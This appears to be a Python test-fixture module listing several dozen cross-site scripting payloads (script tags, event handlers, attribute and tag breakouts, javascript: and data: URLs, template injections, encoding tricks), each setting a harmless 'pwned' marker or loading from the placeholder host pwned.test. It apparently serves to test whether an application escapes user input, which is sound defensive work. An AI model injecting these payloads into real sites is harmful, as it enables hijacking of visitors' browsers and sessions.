"""What somebody might put in a field to run something in the browser of who looks at it.

Each is short enough for the shortest field, and holds `pwned`: as a name, or as what it would set.
"""

MARK = "pwned"
PAYLOADS = [
    # script elements
    "<script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<scr<script>ipt>pwned=1</script>",
    "<script src=//pwned.test></script>",
    "<svg><script>pwned=1</script>",
    # event handlers
    "<img src=x onerror=pwned=1>",
    "<img/src=x/onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><animate onbegin=pwned=1 attributeName=x>",
    "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1>",
    # out of an attribute, a text area, a title, a style or a comment
    '"><img src=x onerror=pwned=1>',
    "'><img src=x onerror=pwned=1>",
    '" onmouseover=pwned=1 x="',
    "' onfocus=pwned=1 autofocus='",
    "` onerror=pwned=1 `",
    "</textarea><img src=x onerror=pwned=1>",
    "</title><img src=x onerror=pwned=1>",
    "</style><img src=x onerror=pwned=1>",
    "--><img src=x onerror=pwned=1>",
    "<!--pwned",
    # addresses that run, and pages inside the page
    "javascript:pwned=1",
    "<a href=javascript:pwned=1>x</a>",
    '<a href="java&#115;cript:pwned=1">x</a>',
    '<a href=" &#1;javascript:pwned=1">x</a>',
    "<math href=javascript:pwned=1>x",
    "<iframe src=javascript:pwned=1>",
    '<iframe srcdoc="<script>pwned=1</script>">',
    "data:text/html,<script>pwned=1</script>",
    "<object data=data:text/html,pwned>",
    # from elsewhere
    "<base href=//pwned.test>",
    "<link rel=stylesheet href=//pwned.test>",
    "<style>@import'//pwned.test'</style>",
    "<meta http-equiv=refresh content=0;//pwned.test>",
    "<form action=//pwned.test><button>x",
    # templates
    "{{ constructor.constructor('pwned=1')() }}",
    '{% include "pwned" %}',
    "${pwned=1}",
    # what only looks like something else
    "\\u003cimg src=x onerror=pwned=1\\u003e",
    "&lt;img src=x onerror=pwned=1&gt;",
    "＜script＞pwned=1＜/script＞",
    "\u202e<b class=pwned>\u200bx</b>",
]
